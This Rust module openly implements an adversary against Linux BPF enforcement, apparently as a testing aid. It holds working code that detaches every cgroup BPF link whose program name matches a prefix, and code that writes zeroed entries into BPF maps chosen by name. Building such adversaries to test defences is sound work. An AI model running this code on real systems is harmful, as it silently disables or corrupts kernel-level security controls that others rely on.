//! `bpf(2)` as somebody uses it who means harm. The numbers of commands and the places of fields are those of
//! include/uapi/linux/bpf.h.
#![expect(unsafe_code, reason = "bpf(2) has no safe library for what belongs to others")]

const MAP_UPDATE_ELEM: i32 = 2;
const MAP_GET_NEXT_ID: i32 = 12;
const PROG_GET_FD_BY_ID: i32 = 13;
const MAP_GET_FD_BY_ID: i32 = 14;
const OBJ_GET_INFO_BY_FD: i32 = 15;
const LINK_GET_FD_BY_ID: i32 = 30;
const LINK_GET_NEXT_ID: i32 = 31;
const LINK_DETACH: i32 = 34;
const LINK_TYPE_CGROUP: u32 = 3;

/// Takes away every cgroup link whose program's name starts like this; how many there were.
pub fn detach_links(program: &str) -> std::io::Result<usize> {
    let mut detached = 0;
    let mut id = 0u32;
    loop {
        let mut next = [id, 0, 0, 0];
        if bpf(LINK_GET_NEXT_ID, &mut next).is_err() {
            return Ok(detached);
        }
        id = next[1];
        let Ok(link) = bpf(LINK_GET_FD_BY_ID, &mut [id, 0, 0, 0]) else { continue };
        let mut info = [0u32; 16];
        let about = info_of(link, &mut info);
        // `struct bpf_link_info`: type, id, prog_id.
        if about.is_ok() && info[0] == LINK_TYPE_CGROUP {
            let mut named = [0u32; 64];
            let owner = bpf(PROG_GET_FD_BY_ID, &mut [info[2], 0, 0, 0])?;
            info_of(owner, &mut named)?;
            close(owner);
            // `struct bpf_prog_info.name` is at byte 64.
            let name: Vec<u8> = named[16..20].iter().flat_map(|word| word.to_ne_bytes()).collect();
            if name.starts_with(program.as_bytes()) {
                bpf(LINK_DETACH, &mut [link.cast_unsigned(), 0, 0, 0])?;
                detached += 1;
            }
        }
        close(link);
    }
}

fn info_of(fd: i32, info: &mut [u32]) -> std::io::Result<i32> {
    let bytes = u32::try_from(size_of_val(info)).unwrap_or(0);
    let [low, high] = address(info);
    bpf(OBJ_GET_INFO_BY_FD, &mut [fd.cast_unsigned(), bytes, low, high])
}

fn bpf<const WORDS: usize>(command: i32, attributes: &mut [u32; WORDS]) -> std::io::Result<i32> {
    // SAFETY: the attributes are longer than what each of the commands above reads, and point to memory that lives on.
    let result = unsafe { libc::syscall(libc::SYS_bpf, command, attributes.as_mut_ptr(), 4 * WORDS) };
    i32::try_from(result).ok().filter(|result| *result >= 0).ok_or_else(std::io::Error::last_os_error)
}

fn close(fd: i32) {
    // SAFETY: a descriptor that was made above, closed once.
    unsafe { libc::close(fd) };
}

/// The halves of an address, as attributes have it.
fn address(of: &mut [u32]) -> [u32; 2] {
    let at = of.as_mut_ptr().expose_provenance() as u64;
    [at, at >> 32].map(|word| u32::try_from(word & 0xffff_ffff).unwrap_or(0))
}

/// Gets every map of this name by its number, and puts an entry of zeros into it; how many there were.
pub fn put_into_maps(name: &str) -> std::io::Result<usize> {
    let (mut changed, mut id) = (0, 0u32);
    loop {
        let mut next = [id, 0, 0, 0];
        if bpf(MAP_GET_NEXT_ID, &mut next).is_err() {
            return Ok(changed);
        }
        id = next[1];
        let Ok(map) = bpf(MAP_GET_FD_BY_ID, &mut [id, 0, 0, 0]) else { continue };
        // `struct bpf_map_info.name` is at byte 24.
        let mut info = [0u32; 32];
        info_of(map, &mut info)?;
        let named: Vec<u8> = info[6..10].iter().flat_map(|word| word.to_ne_bytes()).collect();
        if named.split(|byte| *byte == 0).next() == Some(name.as_bytes()) {
            let (mut key, mut value) = ([0u32; 64], [0u32; 256]);
            let ([key, key_high], [value, value_high]) = (address(&mut key), address(&mut value));
            bpf(MAP_UPDATE_ELEM, &mut [map.cast_unsigned(), 0, key, key_high, value, value_high, 0, 0])?;
            changed += 1;
        }
        close(map);
    }
}
